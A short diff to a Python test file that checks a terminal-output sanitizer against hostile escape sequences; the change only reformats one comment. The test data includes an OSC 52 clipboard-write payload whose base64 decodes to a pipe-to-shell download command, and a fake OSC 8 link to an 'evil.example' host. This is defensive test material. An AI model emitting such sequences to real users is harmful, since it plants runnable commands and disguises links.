@@ -10,7 +10,8 @@ from asean_chair.common.text import for_terminal
 @pytest.mark.parametrize("hostile, shown", [
     ("\x1b[2J\x1b[HOwned", "Owned"),                          # clear the screen, cursor home
     ("Red\x1b[31m text\x1b[0m", "Red text"),                   # colours
-    ("\x1b[?1049h\x1b[?25l", ""),                              # private modes: alt screen, hide cursor
+    # private modes: alt screen, hide cursor
+    ("\x1b[?1049h\x1b[?25l", ""),
     ("\x1b]0;new window title\x07Card", "Card"),               # OSC, ended by BEL
     ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\Card", "Card"),  # OSC 52: write the clipboard
     ("\x1b]8;;http://evil.example\x1b\\Trusted\x1b]8;;\x1b\\", "Trusted"),  # OSC 8 fake link
